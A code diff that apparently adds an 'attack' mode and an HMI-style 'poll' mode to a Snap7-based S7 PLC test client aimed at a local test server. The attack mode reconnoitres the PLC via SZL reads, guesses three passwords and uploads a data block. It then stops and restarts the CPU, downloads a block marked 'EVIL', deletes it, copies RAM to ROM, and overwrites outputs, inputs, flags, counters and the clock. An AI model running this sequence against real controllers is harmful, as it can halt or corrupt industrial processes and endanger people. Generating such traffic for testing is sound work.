@@ -17,8 +17,24 @@ Modes:
   control-refused
            the same against a server that refuses upload and download
            (the native Snap7 server): those steps must fail.
+  attack   what an attacker's engineering tool does, every step through the
+           native Snap7 client's own API (against python-snap7 3.x's server):
+           recon (SZL 0x0011 module id, 0x001C component id, 0x0232
+           protection, 0x0131 communication, 0x0000 SZL list; list blocks,
+           list DBs, block info DB1), three password attempts (userdata
+           security, set password), clear password, upload DB1 (plain and
+           full), PLC stop, download of a block image as DB2 (request
+           download / download block / download ended / PI _INSE), delete
+           DB2 (PI _DELE), compress memory (PI _GARB), copy RAM to ROM (PI
+           _MODU), hot start (PI P_PROGRAM), PLC stop, cold start, writes to
+           DB1, outputs (Q), inputs (I), flags (M) and counters (C), set the
+           PLC clock, disconnect.
+  poll     an HMI's cyclic poll: read DB1 (bytes 0-15) and flags MB0-MB7
+           every --period seconds, --polls times; nothing else.
 
-usage: s7_client_snap7.py [--host H] [--port P] [--mode basic|control|control-refused]
+usage: s7_client_snap7.py [--host H] [--port P]
+                          [--mode basic|control|control-refused|attack|poll]
+                          [--polls N] [--period S]
 """
 import argparse
 import ctypes
@@ -144,11 +160,60 @@ def control(client, refused):
     step("get_cpu_state", client.get_cpu_state)
 
 
+def attack(client):
+    """Recon, password guessing, upload, stop, download, delete, compress,
+    copy RAM to ROM, start, writes, clock (python-snap7 3.x server)."""
+    step("get_cpu_info (SZL 0x001C)", client.get_cpu_info)
+    step("read_szl 0x0011 (module id)", lambda: client.read_szl(0x0011, 0))
+    step("get_protection (SZL 0x0232)", client.get_protection)
+    step("get_cp_info (SZL 0x0131)", client.get_cp_info)
+    step("read_szl_list (SZL 0x0000)", client.read_szl_list)
+    step("list_blocks", client.list_blocks)
+    step("list_blocks_of_type DB", lambda: list(client.list_blocks_of_type(Block.DB, 16)))
+    step("get_block_info DB1", lambda: client.get_block_info(Block.DB, 1))
+    for password in ("secret1", "123456", "admin"):
+        step(f"set_session_password {password!r}", lambda pw=password: client.set_session_password(pw))
+    step("clear_session_password", client.clear_session_password)
+    step("upload DB1", lambda: bytes(client.upload(1)))
+    step("full_upload DB1", lambda: client.full_upload(Block.DB, 1))
+    step("plc_stop", client.plc_stop)
+    image = block_image(2, b"EVIL" + bytes(range(40)))
+    step("download block image as DB2", lambda: client.download(image, 2))
+    step("delete DB2 (PI _DELE)", lambda: client.delete(Block.DB, 2))
+    step("compress (PI _GARB)", lambda: client.compress(1000))
+    step("copy_ram_to_rom (PI _MODU)", lambda: client.copy_ram_to_rom(1000))
+    step("plc_hot_start", client.plc_hot_start)
+    step("plc_stop", client.plc_stop)
+    step("plc_cold_start", client.plc_cold_start)
+    step("db_write DB1.0 len 4", lambda: client.db_write(1, 0, bytearray(b"\x7f\xff\x00\x00")))
+    step("ab_write Q0 len 2", lambda: client.ab_write(0, bytearray(b"\xff\xff")))
+    step("eb_write I0 len 1", lambda: client.eb_write(0, 1, bytearray(b"\x00")))
+    step("mb_write M0 len 2", lambda: client.mb_write(0, 2, bytearray(b"\x00\x00")))
+    step("ct_write C0 x1", lambda: client.ct_write(0, 1, bytearray(b"\x00\x00")))
+    step("set_plc_datetime", lambda: client.set_plc_datetime(datetime.datetime(2031, 1, 1, 0, 0, 0)))
+
+
+def poll(client, polls, period):
+    for _ in range(polls):
+        start = time.monotonic()
+        for what, fn in (("db_read DB1.0 len 16", lambda: client.db_read(1, 0, 16)),
+                         ("mb_read M0 len 8", lambda: client.mb_read(0, 8))):
+            try:
+                fn()
+            except Exception as exc:
+                print(f"  {what:32s} FAILED: {exc}", file=sys.stderr)
+                failures.append(what)
+        time.sleep(max(0.0, period - (time.monotonic() - start)))
+    print(f"  {polls} poll cycles done", file=sys.stderr)
+
+
 def main():
     ap = argparse.ArgumentParser()
     ap.add_argument("--host", default="127.0.0.1")
     ap.add_argument("--port", type=int, default=102)
-    ap.add_argument("--mode", choices=["basic", "control", "control-refused"], default="basic")
+    ap.add_argument("--mode", choices=["basic", "control", "control-refused", "attack", "poll"], default="basic")
+    ap.add_argument("--polls", type=int, default=60)
+    ap.add_argument("--period", type=float, default=0.2)
     args = ap.parse_args()
     logging.basicConfig(level=logging.ERROR)
 
@@ -157,9 +222,17 @@ def main():
     step("connect rack 0 slot 1", lambda: client.connect(args.host, 0, 1, args.port))
     if not client.get_connected():
         return 1
+    if args.mode == "poll":
+        poll(client, args.polls, args.period)
+        client.disconnect()
+        client.destroy()
+        print(f"s7 client done, {len(failures)} unexpected failure(s): {failures[:5]}", file=sys.stderr)
+        return 2 if failures else 0
     step("get_pdu_length", client.get_pdu_length)
     if args.mode == "basic":
         basic(client)
+    elif args.mode == "attack":
+        attack(client)
     else:
         control(client, refused=args.mode == "control-refused")
     step("disconnect", client.disconnect)
